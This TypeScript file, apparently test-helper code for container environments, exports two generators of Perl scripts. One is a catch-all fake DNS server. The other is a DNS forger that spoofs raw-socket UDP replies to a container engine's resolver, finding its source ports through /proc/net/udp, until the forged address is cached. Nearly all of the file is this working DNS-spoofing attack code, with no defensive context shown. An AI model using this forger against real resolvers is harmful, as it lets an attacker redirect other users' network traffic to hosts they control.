/**
 * Perl for a DNS server on `at` (an address, port 53) that gives `address` for every name, by a CNAME that it makes up. In a
 * container with perlMounts.
 */
export const dnsServer = (address: string, at = '0.0.0.0'): string => `
  use Socket; socket(S, PF_INET, SOCK_DGRAM, 0); bind(S, sockaddr_in(53, inet_aton("${at}"))) or die $!;
  while (1) { $from = recv(S, $q, 1500, 0) or next; $end = 12;
    while ($l = ord substr($q, $end, 1)) { $end += 1 + $l }
    $ask = substr($q, 12, $end + 5 - 12); $edge = pack("C/a*", "edge")."\\xc0\\x0c"; $to = 12 + length($ask) + 12; $a = unpack("n", substr($q, $end + 1, 2)) == 1;
    $r = pack("nnnNn", 0xc00c, 5, 1, 60, length $edge).$edge.pack("nnnNn", 0xc000 | $to, 1, 1, 60, 4).inet_aton("${address}");
    send(S, substr($q, 0, 2).pack("n5", 0x8180, 1, $a ? 2 : 0, 0, 0).$ask.($a ? $r : ""), 0, $from) }`;

/**
 * Perl that asks the engine’s resolver for a name and answers the engine itself, in the name of the server that it asks (\`upstream\`), over a raw socket, until
 * the engine believes it; then it prints \`answered\`.
 */
export const dnsForger = (name: string, of: { address: string; upstream: string; self: string }): string => `
  use Socket; $| = 1; $q = pack("n6", 4660, 256, 1, 0, 0, 0).join("", map { pack("C/a*", $_) } split /[.]/, "${name}")."\\0".pack("nn", 1, 1);
  $r = substr($q, 0, 2).pack("n5", 0x8180, 1, 1, 0, 0).substr($q, 12).pack("nnnNn", 0xc00c, 1, 1, 60, 4).inet_aton("${of.address}");
  socket(R, PF_INET, SOCK_RAW, 255) or die "raw: $!"; socket(S, PF_INET, SOCK_DGRAM, 0); connect(S, sockaddr_in(53, inet_aton("127.0.0.11")));
  while (1) { send(S, $q, 0); for (1 .. 500) {
    open F, "/proc/net/udp"; for (<F>) { /:([0-9A-F]{4}) [0-9A-F]{8}:0035/ or next;
      $u = pack("n4", 53, hex $1, 8 + length $r, 0).$r;
      send(R, pack("CCnnnCCna4a4", 69, 0, 20 + length $u, 1, 0, 64, 17, 0, inet_aton("${of.upstream}"), inet_aton("${of.self}")).$u, 0, sockaddr_in(0, inet_aton("${of.self}"))) }
    $i = ""; vec($i, fileno(S), 1) = 1; if (select($i, undef, undef, 0.002)) { print "answered\\n"; recv(S, $q2, 1500, 0); last } } sleep 1 }`;
